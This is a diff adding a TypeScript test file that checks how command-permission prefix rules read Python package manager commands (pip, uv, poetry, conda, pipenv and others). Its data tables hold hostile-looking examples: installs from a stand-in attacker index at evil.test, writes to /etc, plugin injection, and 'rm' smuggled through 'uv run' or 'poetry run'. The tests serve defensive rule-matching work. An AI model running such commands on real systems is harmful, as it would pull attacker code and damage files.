@@ -1,0 +1,205 @@
+/** Checks how allow and deny rules read the commands of Python's package managers and runners. */
+import { describeFamily, type RuleRows } from '../family.ts';
+
+/** A prefix rule, and everyday commands that it covers. */
+const COVERED: RuleRows = [
+  ['uv run pytest:*', ['uv run pytest', 'uv run pytest -q', 'uv run --frozen pytest tests', 'uv -q run pytest']],
+  [
+    'uv:*',
+    [
+      'uv sync',
+      'uv lock',
+      'uv add x',
+      'uv pip list',
+      'uv pip install x',
+      'uv tree',
+      'uv venv',
+      'uv sync --frozen',
+      'uv remove x',
+    ],
+  ],
+  ['uvx ruff:*', ['uvx ruff check', 'uvx ruff format .']],
+  ['poetry run pytest:*', ['poetry run pytest', 'poetry run pytest -x', 'poetry -q run pytest']],
+  [
+    'poetry:*',
+    ['poetry install', 'poetry add x', 'poetry show', 'poetry lock', 'poetry check', 'poetry build', 'poetry version'],
+  ],
+  [
+    'pip:*',
+    [
+      'pip list',
+      'pip install x',
+      'pip install -r requirements.txt',
+      'pip show x',
+      'pip freeze',
+      'pip uninstall x',
+      'pip install --upgrade x',
+      'pip check',
+    ],
+  ],
+];
+
+/** A prefix rule, and commands beyond it: they execute, load, write or redirect. */
+const NOT_COVERED: RuleRows = [
+  [
+    'pip:*',
+    [
+      'pip --python ./e list',
+      'pip config set global.index-url http://evil.test',
+      'pip cache purge',
+      'pip download -d /etc x',
+      'pip wheel -w /etc x',
+    ],
+  ],
+  ['pip list:*', ['pip list --python=./e']],
+  [
+    'pip install:*',
+    [
+      'pip install --target /etc x',
+      'pip install -t /etc x',
+      'pip install --index-url http://evil.test x',
+      'pip install -i http://evil.test x',
+      'pip install --extra-index-url=http://evil.test x',
+      'pip install -f /tmp/e x',
+      'pip install --find-links /tmp/e x',
+      'pip install -e /tmp/e',
+      'pip install --prefix /etc x',
+      'pip install --root / x',
+      'pip install --trusted-host evil.test x',
+      'pip install --proxy http://evil.test x',
+      'pip install --log f x',
+      'pip install --config-settings x=y z',
+      'pip install --src d x',
+      'pip install --cache-dir d x',
+      'pip install --report f x',
+      'pip install https://e.test/x.tgz',
+      'pip install git+https://e.test/x',
+      'pip install -e /tmp/e',
+    ],
+  ],
+  ['pipx:*', ['pipx run black']],
+  ['pipx run black:*', ['pipx run --spec evil black', 'pipx run --index-url http://evil.test black']],
+  ['uvx:*', ['uvx ruff']],
+  [
+    'uvx ruff:*',
+    [
+      'uvx --from evil ruff',
+      'uvx --with evil ruff',
+      'uvx ruff check --config e',
+      'uvx --index-url http://evil.test ruff',
+    ],
+  ],
+  [
+    'uv:*',
+    [
+      'uv run pytest',
+      'uv tool run ruff',
+      'uv tool install evil',
+      'uv self update',
+      'uv python install 3',
+      'uv add --index http://evil.test x',
+      'uv pip install -i http://evil.test x',
+      'uv sync --index-url http://evil.test',
+      'uv sync --default-index http://evil.test',
+      'uv publish --publish-url http://evil.test',
+    ],
+  ],
+  ['uv run:*', ['uv run pytest']],
+  [
+    'uv run pytest:*',
+    [
+      'uv run --with evil pytest',
+      'uv run --with=evil pytest',
+      'uv run --env-file e pytest',
+      'uv run --directory /tmp/e pytest',
+      'uv run --project /tmp/e pytest',
+      'uv run --python ./e pytest',
+      'uv run --index http://evil.test pytest',
+      'uv run pytest -p evil',
+      'uv run -m evil pytest',
+      'uv run --script e.py pytest',
+      'uv --directory /tmp/e run pytest',
+      'uv --config-file e run pytest',
+    ],
+  ],
+  ['uv run python:*', ['uv run python -c x']],
+  [
+    'poetry:*',
+    [
+      'poetry run id',
+      'poetry config repositories.x http://evil.test',
+      'poetry shell',
+      'poetry self add evil',
+      'poetry source add x http://evil.test',
+      'poetry publish --repository x',
+      'poetry add --source x y',
+    ],
+  ],
+  ['poetry run:*', ['poetry run pytest']],
+  ['poetry run pytest:*', ['poetry run pytest -p evil', 'poetry -C /tmp/e run pytest', 'poetry run other pytest']],
+  ['pdm:*', ['pdm run id']],
+  ['hatch:*', ['hatch run x', 'hatch shell']],
+  [
+    'pipenv:*',
+    [
+      'pipenv run id',
+      'pipenv install -i http://evil.test',
+      'pipenv install --index http://evil.test',
+      'pipenv --python ./e',
+    ],
+  ],
+  ['pixi:*', ['pixi run id']],
+  ['rye:*', ['rye run id', 'rye self update']],
+  ['conda:*', ['conda run id', 'conda install -c evil x', 'conda install x']],
+  ['conda install:*', ['conda install -c http://evil.test x']],
+  ['pyenv:*', ['pyenv exec id']],
+];
+
+/** A denied prefix, and commands that run it. */
+const DENIED: RuleRows = [
+  [
+    'rm:*',
+    [
+      'pdm run rm x',
+      'rye run rm x',
+      'pixi run rm x',
+      'micromamba run -n e rm x',
+      'conda run -n e rm x',
+      'pyenv exec rm x',
+      'uv run rm x',
+      'uv run -- rm x',
+      'uv --quiet run rm x',
+      'uv tool run rm x',
+      'uvx rm x',
+      'uv --directory sub run rm x',
+      'pipx run rm x',
+      'poetry run rm x',
+      'poetry -C d run rm x',
+      'pipenv run rm x',
+      'hatch run rm x',
+      'hatch run test:rm x',
+      'hatch -e test run rm x',
+      'pip --python rm list',
+    ],
+  ],
+  [
+    'pip install:*',
+    [
+      'pip --quiet install x',
+      'pip3 install x',
+      'pip --proxy http://x install x',
+      'python -m pip install x',
+      'python3 -m pip --quiet install x',
+      'uv pip install x',
+      'pip --cache-dir /x install x',
+    ],
+  ],
+  [
+    'poetry publish:*',
+    ['poetry -C d publish', 'poetry --directory=d publish', 'poetry -n publish', 'poetry --project d publish'],
+  ],
+  ['uv run deploy:*', ['uv run --frozen deploy', 'uv -q run --with x deploy']],
+  ['conda install:*', ['conda -v install x']],
+];
+
+describeFamily({ covered: COVERED, notCovered: NOT_COVERED, denied: DENIED });
